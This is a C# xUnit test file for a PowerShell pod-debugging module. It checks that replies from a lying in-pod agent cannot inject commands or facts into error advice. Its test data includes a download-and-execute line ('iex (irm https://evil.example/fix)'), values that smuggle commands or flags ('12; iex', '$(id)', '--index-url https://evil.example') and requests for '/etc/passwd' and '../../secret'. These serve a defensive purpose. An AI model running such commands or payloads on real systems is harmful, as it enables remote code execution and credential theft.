using System;
using System.Collections.Generic;
using System.Linq;
using System.Management.Automation;
using System.Reflection;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Threading.Tasks;
using PyDebug.Engine;
using PyDebug.Errors;
using PyDebug.Tests.Engine;
using Xunit;

namespace PyDebug.Tests.Module;

/// <summary>An image whose Python is none, and answers in the agent's place whatever it likes.</summary>
public sealed class LyingPodTests : IDisposable
{
    private const string Evil = "Run: iex (irm https://evil.example/fix)";

    private static readonly string[] s_facts =
    [
        "advice", "near", "containers", "contexts", "successor", "passes", "restricted", "for", "profile", "found",
        "ptraceScope", "tool", "version", "needed", "pids", "tracer", "what", "reason", "word", "by", "exitCode",
    ];

    private const string Start = "$s = Start-PodDebug web-0 -Namespace shop -ContainerName app @server";

    private readonly FakeCluster _cluster = new();
    private readonly ModuleShell _shell;

    public LyingPodTests() => _shell = new(_cluster);

    private static IEnumerable<string> Causes
        => new[] { typeof(AgentCause), typeof(PyDebug.Engine.Causes), typeof(LocalCause) }
            .SelectMany(t => t.GetFields()).Where(f => f.IsLiteral).Select(f => (string)f.GetRawConstantValue()!)
            .Append("Evil").Append(Evil).Distinct();

    public static TheoryData<string> Words
        => new("seccomp", "userns", "yama", "capability", "uid", "bpftrace", "memray", "pystack", "profile", "version");

    public void Dispose()
    {
        _shell.Dispose();
        _cluster.Dispose();
    }

    [Fact]
    public async Task Nothing_that_it_says_becomes_advice()
    {
        await _shell.RunAsync(Start);
        foreach (string cause in new[] { AgentCause.ToolUnavailable, AgentCause.DiskFull, Evil })
        {
            Answer(new JsonObject { ["cause"] = cause, ["message"] = "no", ["pid"] = 1, ["detail"] = Detail(Evil) });

            ErrorRecord error = await _shell.FailAsync("$s | Get-PyStack");

            Assert.EndsWith(".GetPyStackCommand", error.FullyQualifiedErrorId, StringComparison.Ordinal);
            Assert.DoesNotContain("evil", error.ErrorDetails.RecommendedAction, StringComparison.Ordinal);
            Assert.DoesNotContain("iex", error.Exception.Message, StringComparison.Ordinal);
            Assert.NotEqual("", error.ErrorDetails.RecommendedAction);
        }
    }

    [Fact]
    public void Nothing_of_its_facts_becomes_advice_whatever_the_cause()
    {
        foreach (string cause in Causes)
        {
            JsonObject frame = new() { ["cause"] = cause, ["detail"] = Detail(Evil) };
            using JsonDocument document = JsonDocument.Parse(frame.ToJsonString());

            FailureFacts facts = new(
                new PodTarget("shop", "web-0", "app", 1), PodFacts.Of(document.RootElement), reason: null);
            string advice = ErrorTable.Find(PodFacts.CauseOf(document.RootElement)).Advice(facts);

            Assert.DoesNotContain("evil", advice, StringComparison.Ordinal);
            Assert.NotEqual("", advice);
        }
    }

    [Fact]
    public async Task A_cause_that_is_this_sides_own_is_not_taken_from_it()
    {
        Answer(new JsonObject { ["cause"] = LocalCause.ConfirmationNeeded, ["message"] = "say yes" });

        ErrorRecord error = await _shell.FailAsync(Start + "; $s | Get-PyStack");

        Assert.StartsWith("InternalError,", error.FullyQualifiedErrorId, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Words))]
    public void No_word_of_it_brings_a_command_that_makes_a_privileged_container_of_its_image(string word)
    {
        foreach (string cause in typeof(AgentCause).GetFields().Select(f => (string)f.GetRawConstantValue()!))
        {
            FailureFacts facts = new(new PodTarget("shop", "web-0", "app", 1), s_facts.ToDictionary(f => f, _ => word));
            string advice = ErrorTable.Find(cause).Advice(facts);

            Assert.DoesNotMatch("SysAdmin(?! *:|, with an -Image|\\))", advice);
            Assert.DoesNotMatch("-For Bpftrace(?! -Image IMAGE)", advice);
        }
    }

    [Theory]
    [InlineData("1.20.0 --index-url https://evil.example", "")]
    [InlineData("[1, 383]", "[1, 383]")]
    [InlineData("12; iex", "")]
    [InlineData("yama", "yama")]
    [InlineData("yama\n", "")]
    [InlineData("$(id)", "")]
    [InlineData("probe,stack", "probe,stack")]
    [InlineData("probe, iex", "")]
    [InlineData("probe,-rf", "")]
    public void Facts_are_numbers_and_words(string value, string taken)
    {
        JsonObject frame = new() { ["detail"] = new JsonObject { ["x"] = value, ["advice"] = "word" } };
        using JsonDocument document = JsonDocument.Parse(frame.ToJsonString());

        IReadOnlyDictionary<string, string> facts = PodFacts.Of(document.RootElement);

        Assert.Equal(taken, facts.GetValueOrDefault("x", ""));
        Assert.False(facts.ContainsKey("advice"));
    }

    [Theory]
    [InlineData("probe,processes,get", "Get-PyProcess needs less. ")]
    [InlineData("probe,stack,processes", "Get-PyStack needs less. ")]
    [InlineData("plainReport", "A report without -Native and -PythonAllocators needs less. ")]
    [InlineData("", "Raise the limit")]
    public void What_fits_is_advised(string fits, string begins)
    {
        JsonObject frame = new() { ["detail"] = new JsonObject { ["fits"] = fits, ["where"] = "pod" } };
        using JsonDocument document = JsonDocument.Parse(frame.ToJsonString());

        FailureFacts facts = new(target: null, PodFacts.Of(document.RootElement));

        Assert.StartsWith(begins, ErrorTable.Find(AgentCause.MemoryLow).Advice(facts), StringComparison.Ordinal);
    }

    [Fact]
    public async Task It_is_given_nothing_that_the_question_does_not_bring_along()
    {
        List<char> got = [];
        _cluster.Exec = async exec =>
        {
            if ((await exec.BootAsync())["op"]!.ToString() == "probe")
            {
                await AnswerProbeAsync(exec);
                return;
            }

            await exec.HelloAsync();
            await exec.SendFrameAsync('N', new JsonObject { ["path"] = "/etc/passwd", ["tool"] = "../../secret" });
            got.Add((await exec.ReadFrameAsync()).Kind);
            await exec.FinishAsync();
        };

        await _shell.RunAsync(Start + "; $s | Get-PyStack");

        Assert.Equal([FrameKinds.Cancel], got);
    }

    [Fact]
    public async Task Each_question_names_the_target_container()
    {
        List<JsonObject> asked = [];
        _cluster.PodObject["spec"]!["shareProcessNamespace"] = true;
        _cluster.Exec = async exec =>
        {
            asked.Add(await exec.BootAsync());
            if (asked[^1]["op"]!.ToString() == "stop")
            {
                _cluster.PodObject["status"]!["ephemeralContainerStatuses"]![0]!["state"] =
                    FakeCluster.Terminated("Completed", 0, "");
            }

            await AnswerProbeAsync(exec);
        };
        using TempDirectory place = new();
        _shell["target"] = System.IO.Path.Join(place.Path, "x");

        await _shell.RunAsync(Start);
        await _shell.RunAsync(
            """
            $s | Get-PyStack; $s | Get-PyTask; $s | Get-PyProcess; $s | Measure-PyTime -DurationSeconds 1
            $s | Invoke-Bpftrace -Program 'BEGIN { exit() }'; $s | Copy-PodFile -Path /x -Destination $target
            $s | Get-MemrayReport -DurationSeconds 1 -Confirm:$false; $s | Stop-PodDebug
            """);

        Assert.Superset(
            new HashSet<string> { "probe", "stack", "tasks", "processes", "time", "bpftrace", "get", "stop" },
            asked.Select(a => a["op"]!.ToString()).ToHashSet());
        Assert.All(asked, a => Assert.Equal("aaaa", a["container"]!.ToString()));
        Assert.All(asked, a => Assert.True(a["shared"]!.GetValue<bool>()));
        // All but Stop-PodDebug want another answer, and say so once.
        Assert.Equal(8, _shell.Errors.Count);
    }

    private static async Task AnswerProbeAsync(FakeExec exec)
    {
        await exec.HelloAsync();
        await exec.SendFrameAsync('R', new JsonObject { ["kind"] = "probe", ["targetVisible"] = true });
        await exec.FinishAsync();
    }

    private static JsonObject Detail(string text)
        => new(s_facts.Select(f => KeyValuePair.Create<string, JsonNode?>(f, text)));

    private void Answer(JsonObject failure)
        => _cluster.Exec = async exec =>
        {
            if ((await exec.BootAsync())["op"]!.ToString() == "probe")
            {
                await AnswerProbeAsync(exec);
                return;
            }

            await exec.HelloAsync();
            await exec.SendFrameAsync('E', failure.DeepClone().AsObject());
            await exec.FinishAsync(1);
        };
}
